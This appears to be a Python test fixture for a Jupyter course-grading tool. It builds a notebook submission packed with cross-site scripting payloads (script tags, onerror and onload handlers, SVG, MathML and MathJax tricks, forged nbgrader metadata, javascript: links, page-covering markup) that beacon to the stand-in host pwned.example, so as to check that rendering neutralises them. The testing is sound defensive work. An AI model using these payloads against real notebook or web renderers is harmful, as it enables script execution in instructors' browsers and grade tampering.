"""A submission that tries by every way to run a script in the browser of who looks at it.

Each attack has a name; one that succeeds asks for ``http://pwned.example/<name>``.
"""

from __future__ import annotations

import base64
from typing import Any
from urllib.parse import quote

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from small_course import solved

HOST = "pwned.example"

#: A picture of one point.
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC"
)

#: The attacks that fail on nbconvert's own pages, too; no settings of the course may help them.
VAIN = {
    *"md-math md-mutation md-noscript out-latex out-plain out-png out-stream out-traceback".split(),
    *"raw tag".split(),
    # An image runs nothing and asks for nothing.
    *"md-attached-svg svg svg-object svg-load svg-animate svg-image svg-use".split(),
    # No browser of today follows these: a style that is a program, markup of another document.
    *"md-expression md-svg-use out-svg-use".split(),
    # A name, a kind or data with a quote in it is escaped.
    *"md-attached-name md-attached-kind md-attached-data".split(),
    # MathJax is on a server that the tests do not reach, and has an extension that refuses these.
    *"tex-bbox tex-href tex-style tex-token tex-unicode out-tex".split(),
}


def call(name: str) -> str:
    """JavaScript that tells of the attack ``name``; it needs neither quotes nor spaces."""
    return f"fetch(`http://{HOST}/{name}`)"


#: What a student can write in Markdown.
MARKDOWN = [
    f"<script>{call('md-script')}</script>",
    f'<img src="x" onerror="{call("md-error")}">',
    f'<svg onload="{call("md-svg")}"></svg>',
    f'<iframe srcdoc="<script>{call("md-frame")}</script>"></iframe>',
    f'<details open ontoggle="{call("md-details")}">x</details>',
    f'<style>@keyframes a{{}}</style><b style="animation:a 1s" onanimationstart="{call("md-b")}">',
    f"<style>html{{background:url(http://{HOST}/md-style)}}</style>",
    f"![x](http://{HOST}/md-picture)",
    f'<link rel="stylesheet" href="http://{HOST}/md-stylesheet">',
    f'<object data="http://{HOST}/md-object"></object>',
    f'$x <img src="x" onerror="{call("md-math")}">$',
    f"<!-- > --!><img src=x onerror={call('md-comment')}>",
    f'<textarea></textarea><img src=x onerror="{call("md-textarea")}">',
    f'<noscript><p title="</noscript><img src=x onerror={call("md-noscript")}>">',
    "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=x onerror={call("md-mutation")}&gt;">',
]

#: What a student can write in Markdown as MathML, SVG and CSS.
MARKDOWN += [
    f'<math><mtext><img src="x" onerror="{call("md-mathml")}"></mtext></math>',
    '<math><annotation-xml encoding="text/html">'
    f'<img src="x" onerror="{call("md-annotation")}"></annotation-xml></math>',
    f"<div><svg><script>{call('md-svg-script')}</script></svg></div>",
    f'<svg><foreignObject><img src="x" onerror="{call("md-svg-object")}"></foreignObject></svg>',
    f'<svg><animate attributeName="x" dur="1s" onbegin="{call("md-svg-animate")}"/></svg>',
    f'<svg><image href="http://{HOST}/md-svg-image"/></svg>',
    f'<svg><use href="http://{HOST}/md-svg-use"/></svg>',
    f'<style>@import "http://{HOST}/md-import";</style>',
    f'<b style="background:url(http://{HOST}/md-css)">x</b>',
    f"<b style=\"background:image-set('http://{HOST}/md-css-set' 1x)\">x</b>",
    f'<b style="width:expression({call("md-expression")})">x</b>',
]

#: What MathJax would do with a formula, if it were let. The last one never ends.
FORMULAS = [
    rf"$\href{{javascript:{call('tex-href')}}}{{x}}$",
    rf"$\style{{background:url(http://{HOST}/tex-style)}}{{x}}$",
    rf"$\bbox[background:url(http://{HOST}/tex-bbox)]{{x}}$",
    rf"$\mmlToken{{mi}}[href='javascript:{call('tex-token')}']{{x}}$",
    rf"$\unicode[url(http://{HOST}/tex-unicode)]{{x41}}$",
    r"$\class{full-credit}{x} \cssId{q_double}{x} \require{action} \texttip{x}{cover}$",
    r"$\let\go=\href \go{http:work.html}{x}$",
    r"$\def\a{\a}\a$",
]

#: The names of a picture, its kind and its data, as an attachment may have them.
ATTACHED = {
    f'" onerror="{call("md-attached-name")}': {"image/png": PIXEL},
    "kind": {f'image/png" onerror="{call("md-attached-kind")}': PIXEL},
    "data": {"image/png": f'x" onerror="{call("md-attached-data")}'},
}

#: Links that must lead nowhere: to a script, or into the instructor's JupyterLab.
LINKS = f"""\
[a](javascript:{call("link")})
[b](JaVaScRiPt&colon;{call("link")})
[c](files/javascript:{call("link")})
[d](work.html)
[e](http:work.html)
[f](//{HOST}/x)
[g](/formgrader?path=/tmp)
[h](data:text/html,x)
<a href="java\tscript:{call("link")}">i</a>
"""

#: Markup that lies over the page, leaves its place in it, or plays the part of formgrader's own.
COVER = """\
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">cover</div>

<div class="navbar-fixed-top" style="height:9999px">cover</div>

<b class="full-credit" id="q_double">take it</b>

# q_double

<form action="x"><button>Send</button><input autofocus></form>

</div></div></div></div></div></div><p>outside</p>
"""

#: What its reader is to see as it was meant.
HONEST = """\
It is `a <b> b` if a < b & "quoted" text; $p_i < q_i$ and [the docs](https://numpy.org/?a=1&b=2).

| name | value |
|:-----|------:|
| one  |     1 |

```python
print("<b>not bold</b>")
```
"""

CODE = """\
import matplotlib.pyplot as plt
import pandas as pd
plt.plot([1, 2])
plt.show()
pd.DataFrame({"made": ["by <b>pandas</b>"]})"""


def submission() -> NotebookNode:
    """The small course's notebook with the attacks that can be handed in."""
    notebook = solved()
    answer = next(cell for cell in notebook.cells if cell.id == "q_double")
    answer.source = HONEST + "\n" + LINKS.replace("\n", "\n\n") + COVER
    notebook.cells += [new_markdown_cell(source) for source in MARKDOWN + FORMULAS]
    notebook.cells += [
        new_code_cell(CODE),
        new_code_cell("%%html\n" + _script("magic")),
        new_code_cell("from IPython.display import HTML\n" + f"HTML({_script('ran')!r})"),
        new_raw_cell(_script("raw")),
    ]
    return notebook


def forged() -> list[NotebookNode]:
    """Cells that a graded notebook may hold, whoever put them there."""
    named = new_markdown_cell("Named.")
    name = f'"><script>{call("name")}</script>'
    named.metadata["nbgrader"] = {"grade_id": name, "grade": True, "solution": True, "points": 1}
    named.metadata["nbgrader"] |= {"locked": False, "task": False, "schema_version": 3}
    tags = [f'"><script>{call("tag")}</script>', "x navbar-fixed-top"]
    svg = base64.b64encode(_svg(_script("md-attached-svg")).encode()).decode()
    attached = ATTACHED | {"x.svg": {"image/svg+xml": svg}}
    return [
        named,
        *(_with_attachment(name, data) for name, data in attached.items()),
        new_code_cell("1", outputs=_outputs(), metadata={"tags": tags}),
    ]


def _outputs() -> list[NotebookNode]:
    isolated = {"text/html": {"isolated": True}}
    width = {"image/png": {"width": f"1 onerror={call('out-width')}"}}
    elsewhere = {"filenames": {"image/jpeg": f"http://{HOST}/out-filename"}}
    return [
        _shown("text/html", _script("out-script")),
        _shown("text/html", f'<img src=x onerror="{call("out-error")}">'),
        _shown("text/html", _frame("out-frame")),
        _shown("text/html", _script("out-isolated"), isolated),
        _shown("text/html", f"<style>body{{background:url(http://{HOST}/out-style)}}</style>"),
        _shown("text/markdown", f'<img src=x onerror="{call("out-markdown")}">'),
        _shown("text/latex", f'$x$<img src=x onerror="{call("out-latex")}">'),
        _shown("text/plain", f'<img src=x onerror="{call("out-plain")}">'),
        _shown("text/latex", rf"$\href{{javascript:{call('out-tex')}}}{{x}}$"),
        *(_shown("text/html", f"<svg>{content}</svg>") for content in _drawn("out-svg")),
        *(_shown("image/svg+xml", _svg(content)) for content in _drawn("svg")),
        _shown("image/svg+xml", _svg("").replace("<svg", f'<svg onload="{call("svg-load")}"')),
        _shown("application/javascript", call("out-javascript")),
        _shown("image/png", f'x" onerror="{call("out-png")}'),
        _shown("image/png", "x", width),
        _shown("image/jpeg", "x", elsewhere),
        new_output("stream", text=f'\x1b[<img src=x onerror="{call("out-stream")}">'),
        new_output(
            "error",
            ename="Error",
            evalue="",
            traceback=[f'\x1b[31m<img src=x onerror="{call("out-traceback")}">\x1b[0m'],
        ),
    ]


def _drawn(name: str) -> list[str]:
    return [
        _script(name),
        f'<foreignObject><img src="x" onerror="{call(f"{name}-object")}"/></foreignObject>',
        f'<animate attributeName="x" dur="1s" onbegin="{call(f"{name}-animate")}"/>',
        f'<image href="http://{HOST}/{name}-image"/>',
        f'<use href="http://{HOST}/{name}-use"/>',
    ]


def _svg(content: str) -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg">{content}</svg>'


def _with_attachment(name: str, data: dict[str, str]) -> NotebookNode:
    address = quote(name)
    return new_markdown_cell(f"![x](attachment:{address})", attachments={address: data})


def _script(name: str) -> str:
    return f"<script>{call(name)}</script>"


def _frame(name: str) -> str:
    text = base64.b64encode(_script(name).encode()).decode()
    return f'<iframe src="data:text/html;base64,{text}"></iframe>'


def _shown(kind: str, data: str, metadata: dict[str, Any] | None = None) -> NotebookNode:
    return new_output("display_data", data={kind: data}, metadata=metadata or {})
